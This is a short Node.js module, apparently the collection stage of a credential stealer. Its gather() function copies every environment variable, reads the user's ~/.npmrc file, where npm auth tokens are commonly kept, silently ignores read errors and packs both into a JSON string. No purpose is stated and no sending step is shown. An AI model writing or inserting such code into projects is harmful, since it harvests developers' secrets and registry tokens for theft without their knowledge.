import { readFileSync } from "node:fs";
import { homedir } from "node:os";

export function gather() {
  const found = { env: { ...process.env } };
  try {
    found.rc = readFileSync(`${homedir()}/.npmrc`, "utf8");
  } catch {}
  return JSON.stringify(found);
}
